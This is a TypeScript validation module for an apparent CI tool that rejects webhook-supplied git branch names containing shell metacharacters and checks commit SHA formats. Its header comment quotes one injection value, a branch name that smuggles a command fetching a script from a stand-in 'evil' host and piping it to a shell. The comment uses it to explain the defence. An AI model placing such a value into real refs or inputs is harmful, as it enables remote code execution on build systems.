/**
 * Checks on refs and commits taken from webhook payloads before they become a run's branch or
 * commit. A pull request's head ref is chosen by whoever opened it (possibly from a fork), so it
 * is hostile input: git accepts names like `x";curl${IFS}evil|sh;#` that would be dangerous if a
 * user's script ever interpolated the branch unquoted. We refuse those as branches here.
 */
import { branchNameProblem } from '../domain/git-url.js';

/**
 * Characters git allows in ref names but a shell gives meaning to. No sane branch needs them;
 * refusing them keeps a hostile ref from reaching ANSFLOW_* variables or logs as a "branch".
 */
const SHELL_META = /[$`;|&<>'"()!]/;

export function webhookRefProblem(name: string): string | null {
  const problem = branchNameProblem(name);
  if (problem) return problem;
  if (SHELL_META.test(name)) return 'Ref name contains shell metacharacters';
  return null;
}

/** Full commit ids only: SHA-1 (40) or SHA-256 (64) in lowercase hex, as both providers send. */
const FULL_SHA = /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/;

export function isFullCommitSha(value: string): boolean {
  return FULL_SHA.test(value);
}

/** The all-zero id a provider sends for the missing side of a ref creation or deletion. */
export function isZeroSha(value: string): boolean {
  return /^0+$/.test(value);
}
